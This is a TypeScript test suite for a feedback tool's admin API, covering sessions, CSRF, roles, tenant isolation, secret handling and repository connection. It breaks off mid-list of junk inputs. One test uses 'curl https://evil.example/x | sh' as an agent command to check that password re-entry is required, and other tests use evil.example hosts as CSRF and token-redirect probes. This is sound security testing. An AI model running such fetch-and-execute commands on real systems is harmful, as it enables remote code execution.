/**
 * The dashboard's HTTP surface without a browser: sign-in, cookie flags, CSRF, rate limit, TOTP, roles,
 * tenant isolation (404), the inbox filters and paging, OpenAPI coverage and junk input. In-process
 * server on a real temp data dir; admins are created through the same service the CLI uses.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { call, seedTenant, startTestServer, type Reply, type Tenant, type TestServer } from './harness'
import { createAdminsService } from '../src/modules/admins/service'
import { passwordHasher } from '../src/modules/admins/password-hash'
import { totpCode, base32Decode } from '../src/modules/admins/totp'
import { SCAN_WINDOW } from '../src/modules/admin-api/inbox-repo'
import { SIGN_IN_BACKOFF } from '../src/modules/admin-api/sign-in-throttle'
import { dbRun, sqliteOf } from './sqlite-of'

let server: TestServer
let acme: Tenant
let other: Tenant

interface Session {
  cookie: string
  csrf: string
}

async function signIn(email: string, password: string, totp?: string): Promise<Session> {
  const r = await call(server.url, 'POST', '/admin/api/session', { body: { email, password, ...(totp ? { totp } : {}) } })
  expect(r.status).toBe(200)
  return { cookie: r.headers.get('set-cookie')!.split(';')[0], csrf: r.body.csrfToken }
}

function as(s: Session, method: string, path: string, body?: unknown, headers: Record<string, string> = {}): Promise<Reply> {
  return call(server.url, method, path, { body, headers: { cookie: s.cookie, ...(method === 'GET' ? {} : { 'x-csrf-token': s.csrf }), ...headers } })
}

let owner: Session
let member: Session
let otherOwner: Session

beforeAll(async () => {
  // Many sign-ins from one address below: a higher sign-in ceiling (its own test uses the default).
  server = await startTestServer({ FIXLOOP_RATE_LIMIT_MULTIPLIER: '10' })
  acme = await seedTenant(server.admin, {}, 'Acme')
  other = await seedTenant(server.admin, {}, 'Other')
  const admins = createAdminsService(server.ctx.store.admins, server.ctx.box, server.ctx.clock, passwordHasher(server.ctx.config.passwordHashMib))
  await admins.create('root@example.com', 'root password 1')
  await admins.create('member@example.com', 'member password 1', [acme.orgId], 'member')
  await admins.create('other@example.com', 'other password 1', [other.orgId], 'owner')
  owner = await signIn('root@example.com', 'root password 1')
  member = await signIn('member@example.com', 'member password 1')
  otherOwner = await signIn('other@example.com', 'other password 1')
})

afterAll(async () => {
  await server?.close()
})

describe('sign-in and sessions', () => {
  test('the session cookie is HttpOnly, SameSite=Lax, not Secure over plain http', async () => {
    const r = await call(server.url, 'POST', '/admin/api/session', { body: { email: 'ROOT@example.com', password: 'root password 1' } })
    const cookie = r.headers.get('set-cookie')!
    expect(cookie).toMatch(/^fixloop_admin=[A-Za-z0-9_-]{43}; Path=\/; HttpOnly; SameSite=Lax; Max-Age=\d+$/)
    expect(r.body.csrfToken).toBeString()
    expect(JSON.stringify(r.body)).not.toContain(cookie.split(';')[0].split('=')[1])
  })

  test('wrong password and unknown email answer the same', async () => {
    const a = await call(server.url, 'POST', '/admin/api/session', { body: { email: 'root@example.com', password: 'nope nope nope' } })
    const b = await call(server.url, 'POST', '/admin/api/session', { body: { email: 'ghost@example.com', password: 'nope nope nope' } })
    expect([a.status, a.body.error.code]).toEqual([401, 'invalid_credentials'])
    expect(b.body).toEqual(a.body)
  })

  test('no cookie, a junk cookie, a signed-out cookie: 401 not_signed_in', async () => {
    expect((await call(server.url, 'GET', '/admin/api/orgs')).body.error.code).toBe('not_signed_in')
    expect((await call(server.url, 'GET', '/admin/api/orgs', { headers: { cookie: 'fixloop_admin=junk' } })).status).toBe(401)
    const s = await signIn('root@example.com', 'root password 1')
    expect((await as(s, 'DELETE', '/admin/api/session')).status).toBe(200)
    expect((await as(s, 'GET', '/admin/api/orgs')).status).toBe(401)
  })

  test('sessions are listed and one can be revoked from another', async () => {
    const s2 = await signIn('root@example.com', 'root password 1')
    const list = await as(owner, 'GET', '/admin/api/sessions')
    const ids = list.body.data.map((x: { id: string }) => x.id)
    const me2 = (await as(s2, 'GET', '/admin/api/session')).body.sessionId
    expect(ids).toContain(me2)
    expect((await as(owner, 'DELETE', `/admin/api/sessions/${me2}`)).status).toBe(200)
    expect((await as(s2, 'GET', '/admin/api/session')).status).toBe(401)
    // Another admin's session id is not ours to revoke.
    const theirs = (await as(member, 'GET', '/admin/api/session')).body.sessionId
    expect((await as(owner, 'DELETE', `/admin/api/sessions/${theirs}`)).status).toBe(404)
  })

  test('two session cookies are refused, whichever comes first', async () => {
    for (const cookie of [`${owner.cookie}; ${member.cookie}`, `${member.cookie}; ${owner.cookie}`, `${owner.cookie}; theme=dark; ${owner.cookie}`]) {
      const r = await call(server.url, 'GET', '/admin/api/session', { headers: { cookie } })
      expect([r.status, r.body.error.code, r.body.error.details.ambiguousCookie]).toEqual([401, 'not_signed_in', true])
      const v1 = await call(server.url, 'GET', '/v1/feedback', { headers: { cookie, 'x-fixloop-org': acme.orgId } })
      expect(v1.status).toBe(401)
    }
    expect((await call(server.url, 'GET', '/admin/api/session', { headers: { cookie: `theme=dark; ${owner.cookie}` } })).body.email).toBe('root@example.com')
  })

  test('over https the cookie is __Host-fixloop_admin (Secure) and the unprefixed name is not read', async () => {
    const s = await startTestServer({ FIXLOOP_PUBLIC_URL: 'https://fixloop.example' })
    try {
      await createAdminsService(s.ctx.store.admins, s.ctx.box, s.ctx.clock, passwordHasher(s.ctx.config.passwordHashMib)).create('a@example.com', 'a password 12')
      const r = await call(s.url, 'POST', '/admin/api/session', { body: { email: 'a@example.com', password: 'a password 12' } })
      const setCookie = r.headers.get('set-cookie')!
      expect(setCookie).toMatch(/^__Host-fixloop_admin=[A-Za-z0-9_-]{43}; Path=\/; HttpOnly; SameSite=Lax; Max-Age=\d+; Secure$/)
      const token = setCookie.split(';')[0].split('=')[1]
      expect((await call(s.url, 'GET', '/admin/api/session', { headers: { cookie: `__Host-fixloop_admin=${token}` } })).status).toBe(200)
      expect((await call(s.url, 'GET', '/admin/api/session', { headers: { cookie: `fixloop_admin=${token}` } })).status).toBe(401)
      expect((await call(s.url, 'GET', '/admin/api/session', { headers: { cookie: `__host-fixloop_admin=${token}` } })).status).toBe(401)
      const out = await call(s.url, 'DELETE', '/admin/api/session', { headers: { cookie: `__Host-fixloop_admin=${token}`, 'x-csrf-token': r.body.csrfToken } })
      expect(out.headers.get('set-cookie')).toStartWith('__Host-fixloop_admin=; Path=/;')
    } finally {
      await s.close()
    }
  })

  test('failed sign-ins are throttled per address', async () => {
    const s = await startTestServer()
    try {
      const codes: number[] = []
      const free = SIGN_IN_BACKOFF.source.freeFailures
      for (let i = 0; i < free; i++) codes.push((await call(s.url, 'POST', '/admin/api/session', { body: { email: `u${i}@example.com`, password: 'wrong password' } })).status)
      expect(codes.every((c) => c === 401)).toBe(true)
      const last = await call(s.url, 'POST', '/admin/api/session', { body: { email: 'z@example.com', password: 'wrong password' } })
      expect(last.status).toBe(429)
      expect(Number(last.headers.get('retry-after'))).toBeGreaterThan(0)
    } finally {
      await s.close()
    }
  })
})

describe('CSRF', () => {
  test.each([
    ['no token', {}],
    ['a wrong token', { 'x-csrf-token': 'x'.repeat(32) }],
    ['a foreign Origin', { origin: 'https://evil.example' }],
    ['Sec-Fetch-Site cross-site', { 'sec-fetch-site': 'cross-site' }],
  ])('a mutation with %s is refused 403 csrf_failed and changes nothing', async (_name, headers: Record<string, string>) => {
    const h: Record<string, string> = { cookie: owner.cookie, ...headers }
    if (!('x-csrf-token' in headers) && _name !== 'no token') h['x-csrf-token'] = owner.csrf
    const r = await call(server.url, 'POST', '/admin/api/orgs', { body: { name: 'Pwned' }, headers: h })
    expect([r.status, r.body.error.code]).toEqual([403, 'csrf_failed'])
    const patch = await call(server.url, 'PATCH', `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`, { body: { name: 'Pwned' }, headers: h })
    expect(patch.status).toBe(403)
    const orgs = (await as(owner, 'GET', '/admin/api/orgs')).body.data.map((o: { name: string }) => o.name)
    expect(orgs).not.toContain('Pwned')
  })

  test('the /v1 routes take a session too, with the Org header and CSRF on moves', async () => {
    const sub = await call(server.url, 'POST', '/v1/feedback', { auth: acme.pub, body: { text: 'csrf check report' } })
    const id = sub.body.id
    const read = await call(server.url, 'GET', `/v1/feedback/${id}`, { headers: { cookie: owner.cookie, 'x-fixloop-org': acme.orgId } })
    expect(read.status).toBe(200)
    const noOrg = await call(server.url, 'GET', `/v1/feedback/${id}`, { headers: { cookie: owner.cookie } })
    expect(noOrg.status).toBe(401)
    const move = await call(server.url, 'PATCH', `/v1/feedback/${id}`, { body: { status: 'archived' }, headers: { cookie: owner.cookie, 'x-fixloop-org': acme.orgId } })
    expect([move.status, move.body.error.code]).toEqual([403, 'csrf_failed'])
    const ok = await call(server.url, 'PATCH', `/v1/feedback/${id}`, { body: { status: 'archived' }, headers: { cookie: owner.cookie, 'x-fixloop-org': acme.orgId, 'x-csrf-token': owner.csrf } })
    expect(ok.status).toBe(200)
  })
})

describe('Orgs and roles', () => {
  test('the instance owner sees every Org; an Org admin only theirs', async () => {
    const mine = (await as(owner, 'GET', '/admin/api/orgs')).body.data.map((o: { id: string }) => o.id)
    expect(mine).toEqual(expect.arrayContaining([acme.orgId, other.orgId]))
    const theirs = (await as(otherOwner, 'GET', '/admin/api/orgs')).body.data.map((o: { id: string }) => o.id)
    expect(theirs).toEqual([other.orgId])
  })

  test.each([
    ['GET', () => `/admin/api/orgs/${acme.orgId}/apps`],
    ['GET', () => `/admin/api/orgs/${acme.orgId}/keys`],
    ['GET', () => `/admin/api/orgs/${acme.orgId}/inbox`],
    ['GET', () => `/admin/api/orgs/${acme.orgId}/audit`],
    ['POST', () => `/admin/api/orgs/${acme.orgId}/keys`],
    ['POST', () => `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}/secret/rotate`],
    ['PATCH', () => `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`],
    ['DELETE', () => `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`],
  ])("another Org's admin: %s %s is 404", async (method, path) => {
    const body = method === 'GET' || method === 'DELETE' ? undefined : path().endsWith('/rotate') ? { password: 'other password 1' } : { name: 'x', ...(path().endsWith('/keys') ? { password: 'other password 1' } : {}) }
    const r = await as(otherOwner, method, path(), body)
    expect([r.status, r.body.error.code]).toEqual([404, 'not_found'])
  })

  test("a member triages but cannot see secrets or keys; an Org's App id under another Org is app_not_found", async () => {
    expect((await as(member, 'GET', `/admin/api/orgs/${acme.orgId}/apps`)).status).toBe(200)
    const reveal = await as(member, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}/secret/reveal`, { password: 'member password 1' })
    expect([reveal.status, reveal.body.error.code]).toEqual([403, 'forbidden'])
    expect((await as(member, 'GET', `/admin/api/orgs/${acme.orgId}/keys`)).status).toBe(403)
    const cross = await as(owner, 'PATCH', `/admin/api/orgs/${acme.orgId}/apps/${other.appId}`, { name: 'x' })
    expect([cross.status, cross.body.error.code]).toEqual([404, 'app_not_found'])
  })

  test("another Org's App or report named under one's own Org is 404, never an empty answer", async () => {
    const sent = await call(server.url, 'POST', '/v1/feedback', { auth: acme.pub, body: { text: 'Acme report that Other must not learn about' } })
    expect(sent.status).toBe(201)
    const inbox = await as(otherOwner, 'GET', `/admin/api/orgs/${other.orgId}/inbox?folder=all&appId=${acme.appId}`)
    expect([inbox.status, inbox.body.error?.code]).toEqual([404, 'app_not_found'])
    const history = await as(otherOwner, 'GET', `/admin/api/orgs/${other.orgId}/feedback/${sent.body.id}/history`)
    expect([history.status, history.body.error?.code]).toEqual([404, 'not_found'])
    // An id no Org has answers the same: no existence oracle.
    const ghost = await as(otherOwner, 'GET', `/admin/api/orgs/${other.orgId}/feedback/${'0'.repeat(24)}/history`)
    expect([ghost.status, ghost.body.error?.code]).toEqual([404, 'not_found'])
    // The Org's own are answered.
    expect((await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/feedback/${sent.body.id}/history`)).status).toBe(200)
    expect((await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/inbox?folder=all&appId=${acme.appId}`)).status).toBe(200)
  })

  test('reveal returns the stored secret only with the password, and is audited without the secret', async () => {
    const wrong = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}/secret/reveal`, { password: 'not it at all' })
    expect([wrong.status, wrong.body.error.code]).toEqual([401, 'invalid_credentials'])
    const r = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}/secret/reveal`, { password: 'root password 1' })
    expect(r.body.signingSecret).toBe(acme.secret)
    const audit = await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/audit`)
    expect(audit.body.data.filter((e: { action: string }) => e.action === 'app.secret_revealed').length).toBe(1)
    expect(audit.text).not.toContain(acme.secret)
  })

  test('App settings: every field round-trips; bad values are refused with the service’s code', async () => {
    const created = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps`, {
      name: 'Settings app',
      allowedOrigins: ['https://A.example/'],
      processingMode: 'auto_pr',
      batchEnabled: true,
      batchWindowHours: 6,
      publicSubmissionEnabled: false,
    })
    expect(created.status).toBe(200)
    expect(created.body).toMatchObject({ allowedOrigins: ['https://a.example'], processingMode: 'auto_pr', batchEnabled: true, batchWindowHours: 6, publicSubmissionEnabled: false })
    expect(created.body.signingSecret).toBeUndefined()
    const bad = await as(owner, 'PATCH', `/admin/api/orgs/${acme.orgId}/apps/${created.body.id}`, { allowedOrigins: ['not an origin'] })
    expect([bad.status, bad.body.error.code]).toEqual([400, 'invalid_argument'])
    expect(bad.body.error.message).toContain('not an origin')
    const taken = await as(owner, 'PATCH', `/admin/api/orgs/${acme.orgId}/apps/${created.body.id}`, { slug: 'acme-app' })
    expect([taken.status, taken.body.error.code]).toEqual([409, 'slug_taken'])
    const empty = await as(owner, 'PATCH', `/admin/api/orgs/${acme.orgId}/apps/${created.body.id}`, {})
    expect(empty.body.error.code).toBe('no_op')
  })

  test('a key outlives the session, so creating one asks for the password (or a confirmation at the provider); a wrong one is audited', async () => {
    const none = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/keys`, { name: 'no proof' })
    expect([none.status, none.body.error.code, none.body.error.details.reauthRequired]).toEqual([401, 'invalid_credentials', true])
    const wrong = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/keys`, { name: 'wrong proof', password: 'not it at all' })
    expect([wrong.status, wrong.body.error.code]).toEqual([401, 'invalid_credentials'])
    const keys = (await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/keys`)).body.data.map((k: { name: string }) => k.name)
    expect(keys).not.toContain('no proof')
    expect(keys).not.toContain('wrong proof')
    const audit = (await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/audit`)).body.data
    expect(audit.find((e: { action: string; data: { purpose?: string } }) => e.action === 'admin.password_reentry_failed' && e.data?.purpose === 'key_create')).toBeTruthy()
  })

  test('rotating the signing secret answers with the new one, so it asks for the same proof as a reveal', async () => {
    const app = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps`, { name: 'Rotated app' })
    const before = (await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${app.body.id}/secret/reveal`, { password: 'root password 1' })).body.signingSecret
    const none = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${app.body.id}/secret/rotate`, {})
    expect([none.status, none.body.error.code, none.body.error.details.reauthRequired]).toEqual([401, 'invalid_credentials', true])
    const wrong = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${app.body.id}/secret/rotate`, { password: 'not it at all' })
    expect([wrong.status, wrong.body.error.code]).toEqual([401, 'invalid_credentials'])
    // Neither rotated it.
    expect((await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${app.body.id}/secret/reveal`, { password: 'root password 1' })).body.signingSecret).toBe(before)
    const rotated = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/apps/${app.body.id}/secret/rotate`, { password: 'root password 1' })
    expect(rotated.status).toBe(200)
    expect(rotated.body.signingSecret).toMatch(/^[0-9a-f]{64}$/)
    expect(rotated.body.signingSecret).not.toBe(before)
  })

  test('keys: created once in plaintext, listed with creator and last use, revoked', async () => {
    const k = await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/keys`, { name: 'deploy', password: 'root password 1' })
    expect(k.body.key).toMatch(/^sk_/)
    expect((await call(server.url, 'GET', '/v1/apps', { auth: k.body.key })).status).toBe(200)
    const list = await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/keys`)
    expect(list.text).not.toContain(k.body.key)
    const row = list.body.data.find((x: { id: string }) => x.id === k.body.id)
    expect(row).toMatchObject({ name: 'deploy', prefix: k.body.key.slice(0, 7), createdBy: 'root@example.com', revokedAt: null })
    expect(row.lastUsedAt).toBeString()
    expect((await as(otherOwner, 'DELETE', `/admin/api/orgs/${other.orgId}/keys/${k.body.id}`)).status).toBe(404)
    expect((await as(owner, 'DELETE', `/admin/api/orgs/${acme.orgId}/keys/${k.body.id}`)).status).toBe(200)
    expect((await call(server.url, 'GET', '/v1/apps', { auth: k.body.key })).status).toBe(401)
  })
})

describe('repository connection', () => {
  test('instance owner connects; an Org owner may read but not connect; the token is kept and never returned', async () => {
    const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
    expect((await as(otherOwner, 'GET', path)).body).toEqual({ connection: null })
    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_1', agent: 'command', agentCommand: 'true', maxFiles: 5, password: 'root password 1' }
    const refused = await as(otherOwner, 'PUT', path, body)
    expect([refused.status, refused.body.error.code]).toEqual([403, 'forbidden'])
    const ok = await as(owner, 'PUT', path, body)
    expect(ok.status).toBe(200)
    expect(ok.body.connection).toMatchObject({ gitUrl: body.gitUrl, host: 'github', agent: 'command', maxFiles: 5, hasHostToken: true })
    expect(ok.text).not.toContain('ghp_secret_token_1')
    // Saved again without a token: the stored one stays.
    const again = await as(owner, 'PUT', path, { ...body, hostToken: '', maxFiles: 7 })
    expect(again.body.connection).toMatchObject({ maxFiles: 7, hasHostToken: true })
    const bad = await as(owner, 'PUT', path, { ...body, gitUrl: 'https://user:pw@git.example/x.git' })
    expect([bad.status, bad.body.error.code]).toEqual([400, 'invalid_argument'])
    expect((await as(otherOwner, 'GET', path)).text).not.toContain('ghp_secret_token_1')
    expect((await as(owner, 'DELETE', path)).body.disconnected).toBe(true)
  })

  test('the stored token follows no new host: host, API URL or git remote changed without it is 400 naming hostToken; the token stays where it was', async () => {
    const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'github', hostToken: 'ghp_secret_token_2', agent: 'command', agentCommand: 'true', password: 'root password 1' }
    expect((await as(owner, 'PUT', path, body)).status).toBe(200)
    const stored = async () => (await server.services.connections.load(other.appId))!
    for (const [change, named] of [
      [{ hostApiUrl: 'https://evil.example/api/v3' }, 'hostApiUrl'],
      [{ gitUrl: 'https://evil.example/acme/shop.git' }, 'hostApiUrl, gitUrl'],
      [{ gitUrl: 'http://git.example/acme/shop.git', hostApiUrl: 'https://git.example/api/v3' }, 'gitUrl'],
      [{ host: 'gitea' }, 'host, hostApiUrl'],
    ] as const) {
      const r = await as(owner, 'PUT', path, { ...body, ...change, hostToken: '' })
      expect({ status: r.status, code: r.body.error?.code }).toEqual({ status: 400, code: 'invalid_argument' })
      expect(r.body.error.message).toContain(`hostToken is required again: ${named} changed`)
    }
    expect(await stored()).toMatchObject({ gitUrl: body.gitUrl, hostApiUrl: 'https://git.example/api/v3', hostToken: 'ghp_secret_token_2' })
    // Another repository on the same host, the default API URL given explicitly: the token is kept.
    const kept = await as(owner, 'PUT', path, { ...body, gitUrl: 'https://GIT.example/acme/other.git', hostApiUrl: 'https://git.example/api/v3/', hostToken: '' })
    expect(kept.status).toBe(200)
    expect((await stored()).hostToken).toBe('ghp_secret_token_2')
    // A new host with its token: fine.
    expect((await as(owner, 'PUT', path, { ...body, gitUrl: 'https://evil.example/a/b.git', hostToken: 'their-token' })).status).toBe(200)
    expect((await as(owner, 'DELETE', path)).body.disconnected).toBe(true)
  })

  test('the agent and verify commands run on this server after the session: connecting asks the password again (a wrong one is audited), and changes nothing without it', async () => {
    const path = `/admin/api/orgs/${other.orgId}/apps/${other.appId}/repo`
    const body = { gitUrl: 'https://git.example/acme/shop.git', host: 'none', agent: 'command', agentCommand: 'curl https://evil.example/x | sh' }
    const without = await as(owner, 'PUT', path, body)
    expect([without.status, without.body.error.code, without.body.error.details.reauthRequired]).toEqual([401, 'invalid_credentials', true])
    const wrong = await as(owner, 'PUT', path, { ...body, password: 'not the password' })
    expect([wrong.status, wrong.body.error.code]).toEqual([401, 'invalid_credentials'])
    expect((await as(owner, 'GET', path)).body).toEqual({ connection: null })
    const audit = await as(owner, 'GET', `/admin/api/orgs/${other.orgId}/audit`)
    const failed = audit.body.data.filter((e: { action: string }) => e.action === 'admin.password_reentry_failed')
    expect(failed.map((e: { data: { purpose: string }; targetId: string }) => [e.data.purpose, e.targetId])).toContainEqual(['repo_connect', other.appId])
    expect((await as(owner, 'PUT', path, { ...body, agentCommand: 'true', password: 'root password 1' })).status).toBe(200)
    expect((await as(owner, 'DELETE', path)).body.disconnected).toBe(true)
  })
})

describe('TOTP', () => {
  test('turned on with a valid code; sign-in then needs the code', async () => {
    const admins = createAdminsService(server.ctx.store.admins, server.ctx.box, server.ctx.clock, passwordHasher(server.ctx.config.passwordHashMib))
    await admins.create('totp@example.com', 'totp password 1')
    const s = await signIn('totp@example.com', 'totp password 1')
    const { secret } = (await as(s, 'POST', '/admin/api/me/totp/secret')).body
    const bad = await as(s, 'PUT', '/admin/api/me/totp', { secret, code: '000000', password: 'totp password 1' })
    expect(bad.status).toBe(401)
    const code = () => totpCode(base32Decode(secret), Date.now())
    expect((await as(s, 'PUT', '/admin/api/me/totp', { secret, code: code(), password: 'totp password 1' })).status).toBe(200)
    const noCode = await call(server.url, 'POST', '/admin/api/session', { body: { email: 'totp@example.com', password: 'totp password 1' } })
    expect([noCode.status, noCode.body.error.details.totpRequired]).toEqual([401, true])
    // The code that turned TOTP on is used up (it works once); the next step's code signs in.
    await signIn('totp@example.com', 'totp password 1', totpCode(base32Decode(secret), Date.now() + 30_000))
  })
})

describe('inbox', () => {
  let ids: Record<string, string>
  beforeAll(async () => {
    const submit = async (text: string, extra: Record<string, unknown> = {}) =>
      (await call(server.url, 'POST', '/v1/feedback', { auth: other.pub, body: { text, ...extra } })).body.id as string
    ids = {
      plain: await submit('Plain report about the footer'),
      high: await submit('High severity crash in checkout', { severity: 'high', url: 'https://shop.example/checkout' }),
      console: await submit('Console errors on settings', { consoleLogs: [{ level: 'error', message: 'boom', ts: 1 }] }),
    }
  })
  const inbox = async (q: string) => (await as(otherOwner, 'GET', `/admin/api/orgs/${other.orgId}/inbox?folder=all${q}`)).body

  test('newest first; filters narrow; cursor pages', async () => {
    expect((await inbox('')).data.map((r: { id: string }) => r.id).slice(0, 3)).toEqual([ids.console, ids.high, ids.plain])
    expect((await inbox('&severity=high')).data.map((r: { id: string }) => r.id)).toEqual([ids.high])
    expect((await inbox('&urlContains=CHECKOUT')).data.map((r: { id: string }) => r.id)).toEqual([ids.high])
    expect((await inbox('&hasConsole=true')).data.map((r: { id: string }) => r.id)).toEqual([ids.console])
    expect((await inbox('&q=footer')).data.map((r: { id: string }) => r.id)).toEqual([ids.plain])
    expect((await inbox('&mode=private')).data).toEqual([])
    expect((await inbox('&from=2000-01-01&to=2000-01-02')).data).toEqual([])
    // The pattern holds the shape only: an impossible date is a 400 naming the field, not rolled over.
    for (const q of ['&from=2026-02-30', '&to=2026-13-01', '&from=2026-01-01T25:00']) {
      const refused = await as(otherOwner, 'GET', `/admin/api/orgs/${other.orgId}/inbox?folder=all${q}`)
      expect([refused.status, refused.body.error.code, JSON.stringify(refused.body.error.details)]).toEqual([400, 'invalid_body', expect.stringContaining(q.slice(1, q.indexOf('=')))])
      // Said to be about the query string, as every other query parameter's refusal is (not "the request body").
      expect(refused.body.error.message).toBe('A query parameter is not valid (see details.issues).')
    }
    const p1 = await inbox('&limit=2')
    expect(p1.data.length).toBe(2)
    const p2 = await inbox(`&limit=2&cursor=${p1.nextCursor}`)
    expect(p2.data.map((r: { id: string }) => r.id)).toEqual([ids.plain])
    expect(p2.nextCursor).toBeNull()
  })

  test('a filtered request reads at most one window of rows; the cursor continues the scan', async () => {
    const third = await seedTenant(server.admin, {}, 'Third')
    const s = owner
    const n = SCAN_WINDOW + 100
    // The needle is the oldest row: below the first window of newest rows.
    const ids = Array.from({ length: n }, (_, i) => '60000000' + (i + 1).toString(16).padStart(16, '0'))
    const texts = ids.map((_, i) => (i === 0 ? 'needle in a haystack' : 'hay'))
    if (server.ctx.storage.dialect === 'pg') {
      await dbRun(
        server.ctx,
        "INSERT INTO feedback (id, org_id, app_id, status, text, submitted_mode, redactions, created_at, updated_at) SELECT id, ?, ?, 'awaiting_manual', text, 'public', '{}', 0, 0 FROM unnest(?::text[], ?::text[]) AS r(id, text)",
        [third.orgId, third.appId, ids, texts],
      )
    } else {
      const sqlite = sqliteOf(server.ctx)
      const insert = sqlite.query(
        "INSERT INTO feedback (id, org_id, app_id, status, text, submitted_mode, redactions, created_at, updated_at) VALUES (?, ?, ?, 'awaiting_manual', ?, 'public', '{}', 0, 0)",
      )
      sqlite.transaction(() => {
        for (let i = 0; i < n; i++) insert.run(ids[i], third.orgId, third.appId, texts[i])
      })()
    }
    const first = (await as(s, 'GET', `/admin/api/orgs/${third.orgId}/inbox?folder=all&q=needle`)).body
    expect(first.data).toEqual([])
    expect(first.nextCursor).toMatch(/^[0-9a-f]{24}$/)
    const second = (await as(s, 'GET', `/admin/api/orgs/${third.orgId}/inbox?folder=all&q=needle&cursor=${first.nextCursor}`)).body
    expect(second.data.map((r: { text: string }) => r.text)).toEqual(['needle in a haystack'])
    expect(second.nextCursor).toBeNull()
  })

  test('unread marks are per admin', async () => {
    expect((await inbox('&q=footer')).data[0].read).toBe(false)
    const r = await as(otherOwner, 'POST', `/admin/api/orgs/${other.orgId}/reads`, { ids: [ids.plain] })
    expect(r.body.changed).toBe(1)
    expect((await inbox('&q=footer')).data[0].read).toBe(true)
    const asRoot = (await as(owner, 'GET', `/admin/api/orgs/${other.orgId}/inbox?folder=all&q=footer`)).body
    expect(asRoot.data[0].read).toBe(false)
    // Another Org's ids are ignored.
    expect((await as(owner, 'POST', `/admin/api/orgs/${acme.orgId}/reads`, { ids: [ids.plain] })).body.changed).toBe(0)
  })
})

describe('documented and robust', () => {
  test('every /admin/api route is in /openapi.json', async () => {
    const spec = (await call(server.url, 'GET', '/openapi.json')).body
    const paths = Object.keys(spec.paths)
    for (const p of [
      '/admin/api/session', '/admin/api/setup', '/admin/api/sessions', '/admin/api/orgs', '/admin/api/orgs/{orgId}/apps',
      '/admin/api/orgs/{orgId}/apps/{appId}/secret/reveal', '/admin/api/orgs/{orgId}/apps/{appId}/secret/rotate', '/admin/api/orgs/{orgId}/keys',
      '/admin/api/orgs/{orgId}/inbox', '/admin/api/orgs/{orgId}/reads', '/admin/api/orgs/{orgId}/audit',
    ]) {
      expect(paths).toContain(p)
    }
    expect(spec.components.securitySchemes.adminSession).toMatchObject({ type: 'apiKey', in: 'cookie' })
  })

  const JUNK: [string, string, unknown][] = [
    ['POST', '/admin/api/session', { email: ['x'], password: { a: 1 } }],
    ['POST', '/admin/api/session', { email: 'a@b.c', password: 'x'.repeat(5000) }],
    ['POST', '/admin/api/setup', { token: 'x', email: 'a@b.c', password: 'short', extra: 1 }],
    ['POST', '/admin/api/orgs', { name: 'x'.repeat(10_000) }],
    ['POST', '/admin/api/orgs', JSON.parse('['.repeat(500) + ']'.repeat(500))],
    ['PATCH', '/admin/api/orgs/ACME/apps/x', { name: 'x' }],
    ['GET', '/admin/api/orgs/%00/inbox', undefined],
    ['GET', '/admin/api/orgs/{org}/inbox?limit=1e9&folder=nope&cursor=zz', undefined],
    ['GET', '/admin/api/orgs/{org}/inbox?hasScreenshot=maybe&from=yesterday', undefined],
    ['POST', '/admin/api/orgs/{org}/reads', { ids: Array(500).fill('0'.repeat(24)) }],
    ['POST', '/admin/api/orgs/{org}/keys', { name: 5 }],
    // The abuse defence's App settings (docs/api.md "App settings").
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { proofOfWork: 'hard' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { proofOfWork: 1 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { proofOfWork: null }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { proofOfWork: 'NORMAL' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamEvents: 'true' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamEvents: { a: 1 } }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamRetentionDays: 3651 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamRetentionDays: -1 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamRetentionDays: 1.5 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamRetentionDays: '30' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { spamRetentionDays: 1e308 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { retentionDays: 3651 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { retentionDays: -1 }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { retentionDays: '7' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { mode: 'all' } }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { seconds: 9 } }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { seconds: 301 } }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { seconds: '60' } }],
